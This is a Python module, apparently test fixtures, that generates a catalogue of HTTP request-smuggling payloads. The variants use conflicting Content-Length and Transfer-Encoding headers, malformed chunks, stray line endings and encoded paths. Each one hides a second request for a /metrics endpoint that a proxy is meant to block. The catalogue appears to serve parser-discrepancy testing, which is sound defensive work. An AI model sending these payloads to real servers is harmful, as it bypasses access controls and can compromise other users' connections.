"""Requests that a proxy and a server might read differently: request smuggling.

Each hides a second request, HIDDEN, where it is data for one reader and a request for another.
"""

HIDDEN = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Request-Id: hidden\r\n\r\n"
"""What a proxy does not let through, so that an answer to it has got round the proxy."""
CHUNKED = b"Transfer-Encoding: chunked"
LAST = b"0\r\n\r\n"
FIVE = b"Content-Length: 5"


def post(*lines: bytes, body: bytes = b"", version: bytes = b"HTTP/1.1") -> bytes:
    head = (b"POST /decode " + version, b"Host: x", *lines, b"", b"")
    return b"\r\n".join(head) + body


def get(*lines: bytes, target: bytes = b"/health/live", version: bytes = b"HTTP/1.1") -> bytes:
    return b"\r\n".join((b"GET %s %s" % (target, version), *lines, b"", b"")) + HIDDEN


def _coded() -> dict[str, bytes]:
    """Bodies that are chunked for some readers, with and without a length for others."""
    length = b"Content-Length: %d" % len(LAST + HIDDEN)
    inside = b"%x\r\n%s\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
    found = {
        "length and chunks": post(length, CHUNKED, body=LAST + HIDDEN),
        "chunks and length": post(CHUNKED, b"Content-Length: 4", body=inside),
        "chunks, HTTP/1.0": post(CHUNKED, body=LAST + HIDDEN, version=b"HTTP/1.0"),
    }
    for line in (
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding:\tchunked",
        b"Transfer-Encoding: \x0bchunked",
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding: chunked\x00",
        b"Transfer-Encoding: chunked\xa0",
        b"Transfer-Encoding: chunked;x",
        b'Transfer-Encoding: "chunked"',
        b"Transfer-Encoding: ,chunked",
        b"Transfer-Encoding: gzip, chunked",
        b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: identity",
        b"Transfer-Encoding:",
        b"Transfer-Encoding:\r\n chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
        b" Transfer-Encoding: chunked",
        b"Transfer_Encoding: chunked",
        b"TRANSFER-ENCODING: CHUNKED",
        b"X: y\nTransfer-Encoding: chunked",
        b"X: y\rTransfer-Encoding: chunked",
    ):
        found[f"{line!r} and length"] = post(length, line, body=LAST + HIDDEN)
        found[repr(line)] = post(line, body=LAST + HIDDEN)
    return found


def _lengths() -> dict[str, bytes]:
    """Bodies whose length is said twice, or in no decimal digits."""
    length = b"%d" % (5 + len(HIDDEN))
    lines = (
        b"Content-Length: 5\r\nContent-Length: %s",
        b"Content-Length: %s\r\nContent-Length: %s",
        b"Content-Length: 5, %s",
        b"Content-Length: %s, %s",
        b"Content-Length: +%s",
        b"Content-Length: -%s",
        b"Content-Length: 0x%s",
        b"Content-Length: 1_%s",
        b"Content-Length: 1 %s",
        b"Content-Length: %s.0",
        b"Content-Length: 000%s",
        b"Content-Length: 18446744073709551616%s",
        b"Content-Length: %s\t",
        b"Content-Length: %s\x00",
        b"Content-Length\x00: %s",
        b"Content-Length : %s",
        b"Content-Length:\r\n %s",
        b"Content-Length:",
        b"Content_Length: %s",
        b"Connection: Content-Length\r\nContent-Length: %s",
        b"Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMA\r\nContent-Length: %s",
    )
    return {repr(line): post(line.replace(b"%s", length), body=b"hello" + HIDDEN) for line in lines}


def _chunks() -> dict[str, bytes]:
    """Chunks whose size, extension, end or trailer is read in several manners."""
    bodies = [
        size + b"\r\nhello\r\n" + LAST
        for size in (
            b"ffffffffffffffff5",
            b"10000000000000005",
            b"-5",
            b"+5",
            b"0x5",
            b"0_5",
            b"5 ",
            b" 5",
            b"",
            b"00000005",
            b"5;a=b",
            b'5;a="\r\n"',
        )
    ]
    bodies += [
        b"5;a\nhello\r\n" + LAST,
        b"5\nhello\n0\n\n",
        b"5\rhello\r\n" + LAST,
        b"5\r\nhelloX" + LAST,
        b"5\r\nhello\r\n0;x\r\n\r\n",
        b"5\r\nhello\r\n0\r\n\n",
        b"5\r\nhello\r\n0\r\nContent-Length: 999\r\n\r\n",
        b"5\r\nhello\r\n0\r\nX: y\r\n\r\n",
        # The line feed ends the extension for some, who see a chunk where others see its size.
        b"2;\nxx\r\n%x\r\n0\r\n\r\n%s\r\n0\r\n\r\n" % (len(HIDDEN) + 5, HIDDEN),
    ]
    return {repr(body): post(CHUNKED, body=body + HIDDEN) for body in bodies}


def _lines() -> dict[str, bytes]:
    """Lines that end, go on or are named as they should not be."""
    lines = (
        b"X: y\n" + FIVE,
        b"X: y\r" + FIVE,
        b"X: y\r\n z\r\n" + FIVE,
        b"X: y\x00z\r\n" + FIVE,
        b"X\x00Y: z\r\n" + FIVE,
        b"X: y\x01\x1b[0m\x7f\r\n" + FIVE,
        b"X: \xc3\xa9\xff\r\n" + FIVE,
        b": y\r\n" + FIVE,
        b"X\r\n" + FIVE,
        b"X Y: z\r\n" + FIVE,
        b"Expect: 100-continue\r\n" + FIVE,
        b"Expect: y 100-continue\r\n" + FIVE,
        b"Expect: 200-ok\r\n" + FIVE,
    )
    return {repr(line): post(line, body=b"hello" + HIDDEN) for line in lines} | {
        "line feeds": post(FIVE, body=b"hello").replace(b"\r\n", b"\n") + HIDDEN,
        "carriage returns": get(b"Host: x").replace(b"\r\n", b"\r"),
        "fold after the request line": post(FIVE).replace(b"Host", b" Host") + b"hello" + HIDDEN,
        "kept open, HTTP/1.0": post(
            b"Connection: keep-alive", FIVE, body=b"hello" + HIDDEN, version=b"HTTP/1.0"
        ),
    }


def _requests() -> dict[str, bytes]:
    """Request lines and hosts of many kinds, and bodies where none is expected."""
    host = b"Host: x"
    body = b"Content-Length: %d" % len(HIDDEN)
    found = {
        "pipelined": get(host),
        "GET with a body": get(host, body),
        "HEAD with a body": get(host, body).replace(b"GET", b"HEAD", 1),
        "GET with chunks": get(host, CHUNKED).replace(b"\r\n\r\n", b"\r\n\r\n" + LAST, 1),
        "no host": get(),
        "two hosts": get(host, b"Host: y"),
        "hosts in a list": get(b"Host: x, y"),
        "host that is none": get(b"Host: a@b/c"),
        "HTTP/0.9": b"GET /health/live\r\n" + HIDDEN,
        "preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN,
        "CONNECT": b"CONNECT x:80 HTTP/1.1\r\nHost: x\r\n\r\n" + HIDDEN,
        "empty lines before": b"\r\n\r\n" + get(host),
        "line feed before": b"\n" + get(host),
        "space before": b" " + get(host),
        "unknown method": get(host).replace(b"GET", b"BREW", 1),
        "not the client's to say": get(host, b"Connection: close, X-Forwarded-For, X-Request-Id"),
    }
    for version in (b"HTTP/1.2", b"HTTP/2.0", b"HTTP/11.1", b"http/1.1"):
        found[repr(version)] = get(host, version=version)
    for target in TARGETS:
        found[repr(target)] = get(host, target=target)
    return found


TARGETS = (
    b"http://x/health/live",
    b"http://y/health/live",
    b"http://x/metrics",
    b"/metrics",
    b"//metrics",
    b"/metrics#x",
    b"/metrics?x",
    b"/metrics;x",
    b"/metrics%00",
    b"/metrics%20",
    b"/metrics%23",
    b"/%6detrics",
    b"/%256detrics",
    b"/x/../metrics",
    b"/x/..%2fmetrics",
    b"/./metrics",
    b"\\metrics",
    b"/metrics x",
    b"/metrics\tx",
    b" /metrics ",
    b"/\x01metrics",
    b"/metrics\xe9",
    b"metrics",
    b"?metrics",
    b"*",
    b"",
)
"""Ways to write a path that is not to be reached, and others that are none."""

ATTACKS = _coded() | _lengths() | _chunks() | _lines() | _requests()
